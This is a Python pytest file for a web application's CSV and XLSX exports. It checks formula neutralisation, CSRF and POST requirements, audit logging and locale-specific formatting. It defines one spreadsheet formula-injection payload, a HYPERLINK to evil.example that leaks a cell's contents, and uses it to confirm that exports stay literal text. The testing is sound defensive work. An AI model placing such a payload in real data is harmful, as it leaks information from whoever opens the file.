"""Exports: CSV with BOM, streamed, formula-safe; XLSX with text cells; audited; POST only."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest

from app.extensions import db
from app.platform.audit import AuditEvent
from app.web.table_export import csv_lines, xlsx_bytes
from tests.conftest import csrf_token_from, login_as

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_lines_neutralise_formulas_and_start_with_a_bom():
    lines = list(csv_lines(["Name", "Score"], [[EVIL, -3], ["+1", 2.5], ["@SUM(A1)", None]]))
    assert lines[0].startswith("\ufeffName,Score")
    rows = list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL, "-3"]  # a negative number stays a number
    assert rows[2] == ["'+1", "2.5"]
    assert rows[3] == ["'@SUM(A1)", ""]
    assert all(line.endswith("\r\n") for line in lines)


def _xlsx_cells(data: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = (
            archive.read("xl/sharedStrings.xml").decode()
            if ("xl/sharedStrings.xml" in archive.namelist())
            else ""
        )
    return sheet, strings


def test_xlsx_writes_text_never_formulas():
    data = xlsx_bytes("people", ["Name", "Score"], [[EVIL, 3], ["=1+1", 1.5]])
    sheet, strings = _xlsx_cells(data)
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings and "=1+1" in strings
    assert "<v>3</v>" in sheet


def _export(client, scene, url):
    page = client.get(f"/readiness/campaigns/{scene.campaign_id}").get_data(as_text=True)
    return client.post(url, data={"csrf_token": csrf_token_from(page)})


def test_a_user_named_like_a_formula_comes_out_literal(client, scene):
    cat = scene.people["cat"]
    cat.first_name = EVIL
    db.session.commit()
    login_as(client, scene.network_manager)
    url = f"/readiness/campaigns/{scene.campaign_id}/export/overdue.csv"
    response = _export(client, scene, url)
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL + " Muster" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    xlsx = _export(client, scene, url.replace(".csv", ".xlsx"))
    assert xlsx.status_code == 200
    sheet, strings = _xlsx_cells(xlsx.get_data())
    assert "<f>" not in sheet and "HYPERLINK" in strings


@pytest.mark.parametrize("table", ["units", "people", "overdue", "heatmap", "trend", "scores"])
def test_every_table_exports_in_both_formats(client, scene, table):
    login_as(client, scene.network_manager)
    base = f"/readiness/campaigns/{scene.campaign_id}/export/{table}"
    unit = f"?unit={scene.org.branch_a1.id}" if table == "people" else ""
    csv_response = _export(client, scene, f"{base}.csv{unit}")
    assert csv_response.status_code == 200
    text = csv_response.get_data().decode("utf-8-sig")
    assert len(text.splitlines()) >= 1
    xlsx_response = _export(client, scene, f"{base}.xlsx{unit}")
    assert xlsx_response.status_code == 200
    assert zipfile.is_zipfile(io.BytesIO(xlsx_response.get_data()))


def test_units_export_has_the_page_numbers(client, scene):
    login_as(client, scene.network_manager)
    response = _export(
        client,
        scene,
        f"/readiness/campaigns/{scene.campaign_id}/export/units.csv?unit={scene.org.region_a.id}",
    )
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["a1"][3:7] == ["3", "2", "66.7", "1"]
    assert by_code["a2"][3:5] == ["2", "0"]


def test_exports_are_audited_and_need_post_and_csrf(client, scene):
    login_as(client, scene.network_manager)
    url = f"/readiness/campaigns/{scene.campaign_id}/export/units.csv"
    assert client.get(url).status_code == 405
    assert client.post(url).status_code == 400
    _export(client, scene, url)
    events = db.session.query(AuditEvent).filter_by(action="readiness.exported").all()
    assert len(events) == 1 and events[0].details["table"] == "units"


def test_unknown_table_or_format_is_404(client, scene):
    login_as(client, scene.network_manager)
    for url in ("export/secrets.csv", "export/units.pdf"):
        response = _export(client, scene, f"/readiness/campaigns/{scene.campaign_id}/{url}")
        assert response.status_code == 404


# --- exports in the reader's locale ------------------------------------------------------------


@pytest.mark.parametrize(
    ("locale", "delimiter", "decimal"),
    [
        ("de-CH", ";", "."),
        ("fr-CH", ";", ","),
        ("it-CH", ";", "."),
        ("fr_CH", ";", ","),
        ("de", ";", "."),  # a bare language is read as Swiss
        ("en", ",", "."),
        (None, ",", "."),
    ],
)
def test_csv_dialect_of_a_locale(locale, delimiter, decimal):
    from app.web.csv_export import csv_dialect_for

    dialect = csv_dialect_for(locale)
    assert (dialect.delimiter, dialect.decimal) == (delimiter, decimal)


def test_the_default_csv_is_unchanged_for_callers_without_a_locale():
    from app.web.csv_export import csv_text

    text = csv_text(["a", "b"], [[1.5, "=x"]])
    assert text == "\ufeffa,b\r\n1.5,'=x\r\n"


def test_csv_lines_in_french_use_semicolons_and_decimal_commas_and_stay_formula_safe():
    from app.web.csv_export import csv_dialect_for
    from app.web.table_export import Percent

    lines = list(
        csv_lines(
            ["Nom", "Part"],
            [[EVIL, Percent(2 / 3)], ["a;b", 2.5], ["-1", -3]],
            csv_dialect_for("fr-CH"),
        )
    )
    assert lines[0] == "\ufeffNom;Part\r\n"
    rows = list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff")), delimiter=";"))
    assert rows[1] == ["'" + EVIL, "66,7"]
    assert rows[2] == ["a;b", "2,5"]  # a delimiter inside a cell is quoted
    assert rows[3] == ["'-1", "-3"]


def _set_language(user, language):
    user.preferred_language = language
    db.session.commit()


@pytest.mark.parametrize(
    ("language", "delimiter", "share"),
    [("fr", ";", "66,7"), ("de", ";", "66.7"), ("en", ",", "66.7")],
)
def test_the_units_export_follows_the_readers_language(client, scene, language, delimiter, share):
    _set_language(scene.network_manager, language)
    login_as(client, scene.network_manager)
    response = _export(
        client,
        scene,
        f"/readiness/campaigns/{scene.campaign_id}/export/units.csv?unit={scene.org.region_a.id}",
    )
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the UTF-8 byte-order mark
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows[0]) == 11 and text.splitlines()[0].count(delimiter) == 10
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["a1"][3:7] == ["3", "2", share, "1"]
    assert by_code["a1"][2] != "branch"  # the level in words, not its identifier
    assert by_code["a1"][8] not in {"not_ready", "at_risk", "on_track", "too_early"}


def test_xlsx_has_real_dates_numbers_and_percentages(client, scene):
    from openpyxl import load_workbook

    login_as(client, scene.network_manager)
    base = f"/readiness/campaigns/{scene.campaign_id}/export"
    units = load_workbook(
        io.BytesIO(_export(client, scene, f"{base}/units.xlsx?unit={scene.org.region_a.id}").data)
    ).active
    header = [cell.value for cell in units[1]]
    a1 = next(row for row in units.iter_rows(min_row=2) if row[0].value == "a1")
    assert a1[3].value == 3 and a1[3].data_type == "n"
    share = a1[header.index("Ready (%)")]
    assert share.value == pytest.approx(2 / 3) and "%" in share.number_format
    overdue = load_workbook(io.BytesIO(_export(client, scene, f"{base}/overdue.xlsx").data)).active
    due = overdue.cell(row=2, column=5)
    assert isinstance(due.value, datetime) and due.is_date
    assert "yy" in due.number_format
    trend_people = load_workbook(
        io.BytesIO(_export(client, scene, f"{base}/people.xlsx?unit={scene.org.branch_a1.id}").data)
    ).active
    next_due = [row[5] for row in trend_people.iter_rows(min_row=2) if row[5].value is not None]
    assert all(cell.is_date for cell in next_due)


def test_xlsx_bytes_writes_dates_and_percent_cells():
    from openpyxl import load_workbook

    from app.web.table_export import Percent

    data = xlsx_bytes(
        "t",
        ["Day", "Share", "Text"],
        [[date(2027, 3, 1), Percent(0.5), "=1+1"]],
        date_format="dd.mm.yyyy",
    )
    sheet = load_workbook(io.BytesIO(data)).active
    day, share, text = sheet[2]
    assert day.is_date and day.value == datetime(2027, 3, 1) and day.number_format == "dd.mm.yyyy"
    assert share.value == 0.5 and share.number_format == "0.0%"
    assert text.data_type == "s" and text.value == "=1+1"
